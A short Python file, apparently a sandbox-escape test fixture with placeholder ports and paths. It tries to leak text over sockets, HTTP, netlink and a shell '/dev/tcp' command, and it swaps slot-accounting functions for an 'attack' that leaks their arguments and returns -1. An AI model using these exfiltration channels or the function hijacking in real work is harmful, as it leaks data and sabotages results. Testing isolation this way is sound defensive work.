# Sends what it is given over every kind of socket: TCP, UDP, Unix, abstract, netlink, a shell.
import os
import socket
import urllib.request


def tell(text):
    for family, kind, address in (
        (socket.AF_INET, socket.SOCK_STREAM, ("127.0.0.1", @PORT@)),
        (socket.AF_INET, socket.SOCK_DGRAM, ("127.0.0.1", @PORT@)),
        (socket.AF_UNIX, socket.SOCK_STREAM, "\0@ABSTRACT@"),
        (socket.AF_UNIX, socket.SOCK_STREAM, "@LOOT@/../listener"),
        (16, socket.SOCK_RAW, (0, 0)),
    ):
        try:
            with socket.socket(family, kind) as channel:
                channel.connect(address)
                channel.send(text.encode())
        except OSError:
            pass
    try:
        urllib.request.urlopen("http://127.0.0.1:@PORT@/" + text.replace(" ", ""), timeout=1)
    except (OSError, ValueError):
        pass
    os.system("echo x > /dev/tcp/127.0.0.1/@PORT@")


tell("hello")


def attack(*args):
    tell(repr(args))
    return -1


reserved_slots = used_slots = waste_fraction = paged_slots = attack


def extra_reservations(pool, max_len, n_running):
    return max(0, pool // max_len - n_running)
